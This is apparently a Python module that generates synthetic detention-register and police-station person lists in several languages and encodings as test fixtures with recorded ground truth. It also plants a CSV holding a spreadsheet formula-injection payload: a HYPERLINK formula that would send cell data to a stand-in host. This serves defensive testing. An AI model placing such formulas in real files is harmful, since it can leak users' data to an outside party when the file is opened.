"""Person lists as text: comma, semicolon and tab; four encodings; headers in four languages.

Invariants:

- the detained register holds about 85 in 100 of those who were taken, each exactly once: lists
  made by offices never agree, and estimates from several lists need to know by how much;
- cells are written as text; the truth keeps the text, row 1 being the header.
"""

import csv
import io
from collections.abc import Iterable
from datetime import date

import msgspec

from muniment.simulate import columns
from muniment.simulate.cache import Cache
from muniment.simulate.columns import Cell, Column
from muniment.simulate.county import TOWNSHIPS
from muniment.simulate.delivery import Made, Note
from muniment.simulate.people import Person
from muniment.simulate.truth import Planted

CSV, TSV = "text/csv", "text/tab-separated-values"
_SHARE_IN_REGISTER = 0.85
EARLIER = "02 收押/旧/收押教培人员名单（2017年12月）.csv"
_SNAPSHOT = date(2018, 1, 1)
DETAINED = "02 收押/收押教培人员名单.csv"


class Dialect(msgspec.Struct, frozen=True):
    """How a text list is written."""

    encoding: str
    delimiter: str
    language: str
    columns: tuple[Column, ...]


def _renamed(column: Column, header: str) -> Column:
    return msgspec.structs.replace(column, header=header)


def _name_in(language: str, header: str) -> Column:
    """The name in a script; people without such a form are written in Latin letters."""
    return Column(header, lambda person: getattr(person.name, language) or person.name.en)


def _narrow_identity(person: Person) -> Cell:
    """The number without full-width digits, which the Cyrillic encoding does not have."""
    full_width = person.flaw == "full-width-digits"
    return person.identity if full_width else columns.identity_cell(person)


_CHINESE = (
    columns.NAME, columns.SEX, columns.ETHNICITY, columns.birth(1), columns.IDENTITY,
    columns.HOME, columns.STATUS, columns.REASON, columns.FACILITY, columns.BEGAN, columns.TERM,
)  # fmt: skip
_UYGHUR = (
    _name_in("ug", "ئىسمى"), _renamed(columns.birth(2), "تۇغۇلغان ۋاقتى"),
    _renamed(columns.IDENTITY, "كىملىك نومۇرى"), _renamed(columns.BEGAN, "تۇتۇلغان ۋاقتى"),
)  # fmt: skip
_RUSSIAN = (
    _name_in("ru", "Имя"), _renamed(columns.birth(2), "Дата рождения"),
    Column("Номер удостоверения", _narrow_identity), _renamed(columns.TERM, "Срок, лет"),
)  # fmt: skip
_ENGLISH = (
    _name_in("en", "Name"), _renamed(columns.birth(1), "Date of birth"),
    _renamed(columns.IDENTITY, "ID number"), _renamed(columns.BEGAN, "Detained on"),
)  # fmt: skip


def write_text_lists(cache: Cache) -> None:
    """The detained register, an earlier one, three of police stations, three in other languages."""
    detained = cache.taken()
    listed = [person for person in detained if _in_register(cache, person)]
    _write(cache, DETAINED, Dialect("gb18030", ",", "zh", _CHINESE), listed)
    early = [person for person in listed if _taken_before(person, _SNAPSHOT)]
    _write(cache, EARLIER, Dialect("gb18030", ",", "zh", _CHINESE), early)
    stations = (("utf-8-sig", ",", "csv"), ("utf-8", ";", "csv"), ("utf-8", "\t", "tsv"))
    for township, (encoding, delimiter, ending) in enumerate(stations):
        residents = [person for person in detained if person.township == township]
        path = f"02 收押/派出所/{TOWNSHIPS[township].zh}.{ending}"
        _write(cache, path, Dialect(encoding, delimiter, "zh", _CHINESE), residents)
    first = detained[:400]
    _write(cache, "07 其他语言/تىزىملىك.csv", Dialect("utf-8", ",", "ug", _UYGHUR), first)
    _write(cache, "07 其他语言/Список.csv", Dialect("cp1251", ";", "ru", _RUSSIAN), first)
    _write(cache, "07 其他语言/list.csv", Dialect("utf-8", ",", "en", _ENGLISH), first)
    _formula_injection(cache)


def _in_register(cache: Cache, person: Person) -> bool:
    return cache.stream("register", person.number).random() < _SHARE_IN_REGISTER


def _taken_before(person: Person, day: date) -> bool:
    return person.detention is not None and person.detention.began < day


def _write(cache: Cache, path: str, dialect: Dialect, people: Iterable[Person]) -> None:
    headers = tuple(column.header for column in dialect.columns)
    table = cache.truth.table(path, "", 1, headers)
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=dialect.delimiter, lineterminator="\r\n")
    writer.writerow(headers)
    numbers = []
    for row, person in enumerate(people, 2):
        cells = tuple(columns.text_of(column.make(person)) for column in dialect.columns)
        writer.writerow(cells)
        cache.truth.row(table, row, person.number, cells)
        numbers.append(person.number)
    note = Note(
        kind="person-list",
        media_type=TSV if dialect.delimiter == "\t" else CSV,
        language=dialect.language,
        encoding=dialect.encoding,
        tokens=headers,
        remark=f"delimiter {dialect.delimiter!r}, {len(numbers)} people",
    )
    cache.delivery.put(path, Made(out.getvalue().encode(dialect.encoding), note))


def _formula_injection(cache: Cache) -> None:
    """A cell that a spreadsheet program would run if it were opened there."""
    path = "02 收押/派出所/备注.csv"
    cells = ('=HYPERLINK("http://example.invalid/?x="&A1,"详情")', "@SUM(1+1)", "+1", "-1")
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(
        [("备注一", "备注二", "备注三", "备注四"), cells]
    )
    note = Note("hostile", CSV, language="zh", encoding="utf-8", tokens=cells)
    cache.delivery.put(path, Made(out.getvalue().encode(), note))
    expect = "cells that begin with = @ + - are text here and must not be run or exported bare"
    cache.truth.planted(Planted("formula-injection", path, expect))
